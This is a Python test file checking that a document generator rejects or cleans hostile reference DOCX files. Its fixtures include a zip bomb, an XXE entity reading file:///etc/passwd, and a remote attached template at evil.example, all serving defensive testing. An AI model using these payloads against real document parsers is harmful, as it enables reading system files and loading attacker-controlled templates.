"""A reference DOCX is hostile input: checked once, bounded, cleaned of external links."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from generator.cli import main

REPORT = """\
agency: 测试局
year: 2022
overview:
  summary: 本年度工作情况如下。
problems:
  text: 无
other_matters:
  text: 无
"""
SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)


def _docx(tmp_path: Path, edit: Callable[[dict[str, bytes]], None] | None = None) -> Path:
    buf = io.BytesIO()
    Document().save(buf)
    with zipfile.ZipFile(buf) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    if edit:
        edit(parts)
    path = tmp_path / "style.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def _build(tmp_path: Path, reference: Path) -> int:
    src = tmp_path / "r" / "a" / "2022.yaml"
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_text(REPORT, encoding="utf-8")
    out = str(tmp_path / "out")
    return main(["build", "-q", str(src), "-o", out, "-f", "docx", "-j", "1",
                 "--reference-docx", str(reference)])  # fmt: skip


def test_a_reference_that_is_not_a_zip_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "style.docx"
    path.write_text("not a docx", encoding="utf-8")
    assert _build(tmp_path, path) == 2
    assert "不是有效的 DOCX" in capsys.readouterr().err


def test_a_zip_bomb_is_refused_before_decompressing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def bomb(parts: dict[str, bytes]) -> None:
        parts["word/media/zeros.bin"] = b"\0" * (200 * 2**20)

    path = _docx(tmp_path, bomb)
    assert _build(tmp_path, path) == 2
    assert "压缩炸弹" in capsys.readouterr().err


def test_entities_in_a_reference_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def xxe(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = (
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            + parts["word/styles.xml"].split(b"?>", 1)[1]
        )

    assert _build(tmp_path, _docx(tmp_path, xxe)) == 2
    err = capsys.readouterr().err
    assert "实体" in err and "内部错误" not in err


def test_external_relationships_are_removed_and_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def remote(parts: dict[str, bytes]) -> None:
        parts["word/_rels/settings.xml.rels"] = SETTINGS_RELS.encode()
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"</w:settings>", b'<w:attachedTemplate r:id="rId9"/></w:settings>'
        )

    assert _build(tmp_path, _docx(tmp_path, remote)) == 0
    assert "evil.example" in capsys.readouterr().err
    with zipfile.ZipFile(tmp_path / "out" / "a" / "2022.docx") as z:
        everything = b"".join(z.read(n) for n in z.namelist())
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything


def test_a_missing_reference_from_the_config_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _build(tmp_path, tmp_path / "missing.docx") == 2
    assert "内部错误" not in capsys.readouterr().err
